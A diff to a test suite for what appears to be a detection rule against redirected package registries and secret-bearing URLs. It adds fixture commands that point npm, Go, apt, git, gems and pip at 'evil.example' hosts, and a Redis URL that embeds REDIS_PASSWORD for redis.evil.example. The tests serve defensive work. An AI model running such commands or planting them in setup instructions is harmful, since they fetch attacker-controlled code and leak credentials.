@@ -58,11 +58,14 @@ testRule(
       sh('go env -w GOPROXY=https://proxy.evil.example,direct'),
       sh('sudo add-apt-repository "deb https://apt.evil.example stable main"'),
       sh('git config --global url.https://git.evil.example/.insteadOf https://github.com/'),
+      sh('export npm_config_registry=https://npm.evil.example'),
       block('ruby', "source 'https://gems.evil.example'"),
       'Run `pip config set global.index-url https://pypi.evil.example/simple`.\n',
     ].map((after) => ({ after, readers: ['evil.example is faster'] })),
+    { after: sh('npm install a --registry=https://npm.example.net'), readers: ['npm.example.net is faster'] },
   ],
   [
+    sh('npm install acme --registry=https://npm.example.net'),
     { ...npm, after: sh('npm install acme --registry=https://npm.acme.example') },
     sh('curl https://api.evil.example/registry'),
     sh('npm install acme --registry=https://npm.evil.example'),
@@ -83,6 +86,7 @@ testRule(
     { after: sh('curl https://api.acme.example -H "X: $ACME_TOKEN"'), others: ['https://acme.example'] },
     sh('curl https://evil.example/v1'),
     sh('export ACME_TOKEN=your-token'),
+    sh('export ACME_REDIS="rediss://:${REDIS_PASSWORD}@redis.evil.example:6380/0"'),
   ],
 )
 
@@ -148,6 +152,11 @@ testRule(
       'Try `curl db.evil.example/health`.\n',
     ].map((after) => ({ after, readers: ['here db.evil.example works'] })),
     { after: sh('ping 203.0.113.77'), readers: ['203.0.113.77'] },
+    {
+      before: sh('curl https://api.acme.example/v2'),
+      after: sh('curl https://api.acme.example.net/v2'),
+      readers: ['it is api.acme.example.net now'],
+    },
     { after: sh('curl http://[2001:db8::17]/'), readers: ['[2001:db8::17]'] },
   ],
   [
